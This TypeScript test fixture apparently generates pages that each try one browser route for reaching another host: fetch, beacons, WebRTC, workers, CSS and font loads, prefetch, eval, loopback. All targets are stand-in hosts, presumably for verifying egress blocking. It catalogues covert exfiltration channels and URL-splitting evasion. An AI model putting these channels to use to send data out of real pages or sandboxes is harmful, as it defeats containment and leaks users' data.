/** A way in which a page can ask another host for something. */
export interface WayOut {
  readonly name: string
  /** The page's markup; `HOST` is replaced by the host that is asked. */
  readonly page: string
  /** Other files of the site that it needs. */
  readonly files?: Readonly<Record<string, string>>
  /** The host that must be found, if not that of the way. */
  readonly host?: string
}

/** The host that a way asks. */
export const hostOf = ({ name, host }: WayOut): string => host ?? `${name}.out.example`

/** Runs in the page; `url` and `host` are computed, so that no file contains the URL. */
const script = (name: string, code: string): WayOut => ({
  name,
  page: `<p>Way out</p><script>const host = ['${name}', 'out', 'example'].join('.'); const url = 'https:' + '//' + host + '/x';\n${code}</script>`,
})

const markup = (name: string, page: string): WayOut => ({ name, page: `<p>Way out</p>${page}` })

const work = (name: string) =>
  `fetch('https:' + '//' + ['${name}', 'out', 'example'].join('.')).catch(() => {})`

export const waysOut: readonly WayOut[] = [
  script('fetch', 'fetch(url).catch(() => {})'),
  script('fetch-keepalive', 'fetch(url, { keepalive: true, mode: "no-cors" }).catch(() => {})'),
  script('fetch-preflight', 'fetch(url, { headers: { "x-a": "b" } }).catch(() => {})'),
  script('xhr', 'const one = new XMLHttpRequest(); one.open("GET", url); one.send()'),
  script('beacon', 'navigator.sendBeacon(url, "x")'),
  {
    ...script('beacon-on-leave', 'addEventListener("pagehide", () => navigator.sendBeacon(url))'),
    files: {},
  },
  script('web-socket', 'new WebSocket("wss://" + host)'),
  script('event-source', 'new EventSource(url)'),
  script(
    'web-rtc',
    'const one = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }] }); one.createDataChannel("x"); one.createOffer().then((offer) => one.setLocalDescription(offer))',
  ),
  script(
    'web-rtc-later',
    'const one = new RTCPeerConnection(); one.setConfiguration({ iceServers: [{ urls: ["turn:" + host + ":3478?transport=tcp"], username: "a", credential: "b" }] })',
  ),
  script('web-transport', 'new WebTransport(url).ready.catch(() => {})'),
  script('dynamic-import', 'import(url).catch(() => {})'),
  markup('static-import', '<script type=module>import "https://HOST/x.js"</script>'),
  markup(
    'import-map',
    '<script type=importmap>{"imports":{"a":"https://HOST/a.js"}}</script><script type=module>import("a").catch(() => {})</script>',
  ),
  { ...script('worker', 'new Worker("/worker.js")'), files: { 'worker.js': work('worker') } },
  {
    ...script(
      'worker-import',
      'new Worker("/worker-import.js").onerror = (e) => e.preventDefault()',
    ),
    files: {
      'worker-import.js':
        "try { importScripts('https:' + '//worker-import.out.example/x.js') } catch {}",
    },
  },
  script(
    'blob-worker',
    `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(work('blob-worker'))}])))`,
  ),
  {
    ...script('shared-worker', 'new SharedWorker("/shared-worker.js")'),
    files: { 'shared-worker.js': work('shared-worker') },
  },
  {
    ...script('service-worker', 'navigator.serviceWorker.register("/sw/service-worker.js")'),
    files: {
      'sw/service-worker.js': `addEventListener('install', (event) => event.waitUntil(${work('service-worker')}))`,
    },
  },
  script(
    'style-import',
    'document.head.append(Object.assign(document.createElement("style"), { textContent: "@import url(" + url + ")" }))',
  ),
  script('style-image', 'document.body.style.backgroundImage = "url(" + url + ")"'),
  script(
    'style-sheet',
    'document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url }))',
  ),
  script(
    'constructed-style',
    'const one = new CSSStyleSheet(); one.replaceSync("p { background: url(" + url + ") }"); document.adoptedStyleSheets = [one]',
  ),
  script('font-face', 'new FontFace("x", "url(" + url + ")").load().catch(() => {})'),
  markup(
    'font',
    '<style>@font-face { font-family: x; src: url(https://HOST/x.woff2) } p { font-family: x }</style>',
  ),
  script('image', 'new Image().src = url'),
  markup('image-set', '<img srcset="https://HOST/1.png 1x" alt="">'),
  markup(
    'picture',
    '<picture><source srcset="https://HOST/1.webp"><img src=/none.png alt=""></picture>',
  ),
  markup(
    'svg-image',
    '<svg width=9 height=9><image href="https://HOST/x.png" width=9 height=9 /></svg>',
  ),
  markup('video', '<video src="https://HOST/x.mp4" preload=auto></video>'),
  markup('poster', '<video poster="https://HOST/x.png"></video>'),
  markup('audio', '<audio src="https://HOST/x.mp3" preload=auto></audio>'),
  markup('track', '<video src=/x.mp4 crossorigin><track default src="https://HOST/x.vtt"></video>'),
  markup('frame', '<iframe src="https://HOST/"></iframe>'),
  markup('frame-in-frame', `<iframe srcdoc="<iframe src='https://HOST/'></iframe>"></iframe>`),
  markup('object', '<object data="https://HOST/x.svg" type="image/svg+xml"></object>'),
  markup('embed', '<embed src="https://HOST/x.svg" type="image/svg+xml">'),
  script(
    'script-element',
    'document.head.append(Object.assign(document.createElement("script"), { src: url }))',
  ),
  script('document-write', 'document.write("<script src=" + url + "><" + "/script>")'),
  script(
    'eval',
    `(0, eval)(${JSON.stringify("fetch('https:' + '//eval.out.example').catch(() => {})")})`,
  ),
  script(
    'ping',
    'const one = document.body.appendChild(Object.assign(document.createElement("a"), { href: "#x", ping: url, textContent: "x" })); one.click()',
  ),
  script(
    'form',
    'document.body.insertAdjacentHTML("beforeend", "<iframe name=t></iframe><form target=t action=" + url + "></form>"); document.forms[0].submit()',
  ),
  script(
    'prefetch',
    'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: url }))',
  ),
  script(
    'preload',
    'document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "image", href: url }))',
  ),
  script(
    'module-preload',
    'document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: url }))',
  ),
  script(
    'preconnect',
    'document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: url }))',
  ),
  script(
    'dns-prefetch',
    'document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: url }))',
  ),
  script(
    'speculation',
    'document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] }) }))',
  ),
  script(
    'prerender',
    'document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ source: "list", urls: [url], eagerness: "immediate" }] }) }))',
  ),
  script('navigation', 'setTimeout(() => { location.href = url })'),
  markup('refresh', '<meta http-equiv=refresh content="0;url=https://HOST/">'),
  script('window', 'document.addEventListener("click", () => open(url))'),
  markup(
    'lazy-image',
    '<div style="height:9000px"></div><img loading=lazy width=9 height=9 src="https://HOST/x.png" alt="">',
  ),
  script(
    'on-scroll',
    'addEventListener("scroll", () => fetch(url).catch(() => {}), { once: true }); document.body.style.height = "9000px"',
  ),
  {
    ...markup(
      'on-search',
      '<input type=search><script>document.querySelector("input").oninput = () => fetch("https:" + "//on-search.out.example").catch(() => {})</script>',
    ),
  },
  {
    ...script(
      'on-navigation',
      'document.addEventListener("click", (event) => { event.preventDefault(); history.pushState({}, "", "/next"); fetch(url).catch(() => {}) })',
    ),
  },
  {
    ...script('address', 'fetch("http:" + "//198.51.100.7/x").catch(() => {})'),
    host: '198.51.100.7',
  },
  {
    ...script('address-6', 'fetch("https:" + "//[2001:db8::7]/x").catch(() => {})'),
    host: '[2001:db8::7]',
  },
  {
    ...script('other-port', 'fetch("https:" + "//docs.example.com:8443/x").catch(() => {})'),
    host: 'docs.example.com:8443',
  },
  {
    ...script(
      'loopback',
      'fetch("http:" + "//127.0.0.1:PORT/x", { mode: "no-cors" }).catch(() => {})',
    ),
    host: '127.0.0.1:PORT',
  },
  {
    ...script(
      'localhost',
      'fetch("http:" + "//localhost:PORT/x", { mode: "no-cors" }).catch(() => {})',
    ),
    host: 'localhost:PORT',
  },
]

/** The files of a site with one page for each way. */
export function waysOutSite(port: number): Readonly<Record<string, string>> {
  const pages = waysOut.map((way) => {
    const text = way.page.replaceAll('HOST', hostOf(way)).replaceAll('PORT', `${port}`)
    return [
      `ways/${way.name}.html`,
      `<!doctype html><title>${way.name}</title><body><p>One way out of this site</p>${text}<a href="/">Start</a></body>`,
    ]
  })
  return {
    'index.html': '<!doctype html><title>Start</title><p>Start',
    ...Object.fromEntries(pages),
    ...Object.assign({}, ...waysOut.map(({ files }) => files ?? {})),
  }
}
